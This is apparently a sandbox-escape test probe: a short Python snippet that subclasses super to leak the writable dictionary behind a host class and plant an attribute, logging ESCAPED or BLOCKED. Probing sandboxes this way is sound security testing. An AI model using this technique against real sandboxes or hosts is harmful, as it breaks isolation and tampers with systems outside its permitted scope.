# id: attr-super-subclass-dict
# technique: a subclass of super hands out the __dict__ descriptor of type, a comparison the dict behind a class
# layer: python
# goal: host-tamper
# success_marker: ESCAPED

class Super(super):
    pass


class Meta(type):
    pass


class Leak:
    got = None

    def __eq__(self, other):
        Leak.got = other
        return True

    __hash__ = None


def attempt(ctx):
    getter = Super(Meta, Meta).__dict__
    getter.__get__(type(ctx.log)) == Leak()
    Leak.got['planted'] = 1
    if hasattr(type(ctx.log), 'planted'):
        ctx.log.info('ESCAPED attr-super-subclass-dict: wrote to the class of ctx.log')


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED attr-super-subclass-dict: ' + repr(e)[:160])
    ctx.log.info('DONE attr-super-subclass-dict')
